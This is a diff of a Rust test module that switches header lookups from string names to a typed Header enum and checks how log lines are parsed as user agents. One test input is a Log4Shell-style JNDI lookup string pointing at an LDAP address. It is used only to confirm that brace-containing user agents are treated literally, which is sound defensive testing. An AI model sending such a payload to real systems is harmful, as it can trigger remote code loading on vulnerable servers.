@@ -105,27 +105,29 @@ fn read(line: &str) -> Result<Request<'_>, String> {
 
 #[cfg(test)]
 mod tests {
+    use edgeward::request::Header;
+
     use super::*;
 
-    fn header(line: &str, name: &str) -> Option<String> {
-        read(line).unwrap().http.header(name).map(str::to_owned)
+    fn header(line: &str, header: Header) -> Option<String> {
+        read(line).unwrap().http.header(header).map(str::to_owned)
     }
 
     #[test]
     fn the_three_shapes_of_a_line() {
-        assert_eq!(header("curl/8.5.0", "user-agent").as_deref(), Some("curl/8.5.0"));
+        assert_eq!(header("curl/8.5.0", Header::UserAgent).as_deref(), Some("curl/8.5.0"));
         let noted = r#"{"ua":"x/1","headers":{"Sec-CH-UA-Mobile":"?1"},"class":"browser"}"#;
-        assert_eq!(header(noted, "user-agent").as_deref(), Some("x/1"));
-        assert_eq!(header(noted, "sec-ch-ua-mobile").as_deref(), Some("?1"));
+        assert_eq!(header(noted, Header::UserAgent).as_deref(), Some("x/1"));
+        assert_eq!(header(noted, Header::SecChUaMobile).as_deref(), Some("?1"));
         let request = r#"{"http":{"headers":[["user-agent","y/2"]]}}"#;
-        assert_eq!(header(request, "user-agent").as_deref(), Some("y/2"));
+        assert_eq!(header(request, Header::UserAgent).as_deref(), Some("y/2"));
         assert_eq!(read(r#"{"http":{"path":"/"}}"#).unwrap().http.user_agent(), None, "unknown, not absent");
     }
 
     #[test]
     fn a_user_agent_with_braces_is_a_user_agent() {
         for agent in ["{", "{}", "{${jndi:ldap://192.0.2.1/a}}", r#"{"ua":"#, r#"{"other":1}"#] {
-            assert_eq!(header(agent, "user-agent").as_deref(), Some(agent));
+            assert_eq!(header(agent, Header::UserAgent).as_deref(), Some(agent));
         }
     }
 
